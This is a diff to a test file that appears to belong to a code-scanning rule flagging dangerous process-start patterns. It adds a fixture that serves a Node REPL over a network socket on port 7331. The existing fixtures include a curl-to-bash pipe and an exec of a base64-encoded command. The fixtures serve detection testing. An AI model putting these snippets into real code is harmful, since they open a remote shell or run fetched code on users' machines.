@@ -3,6 +3,8 @@ import { processStart } from './process-start.ts';
 
 describeRule(processStart, {
   reports: {
+    'a prompt at a connection':
+      "const net = require('net'); net.createServer((s) => require('repl').start({ input: s, output: s })).listen(7331);",
     'a shell fed by curl':
       "const { execSync: run } = require('node:child_process');\nrun(`curl ${u} | bash`);",
     'an encoded command': "require('child_process').exec(atob('aWQ='));",
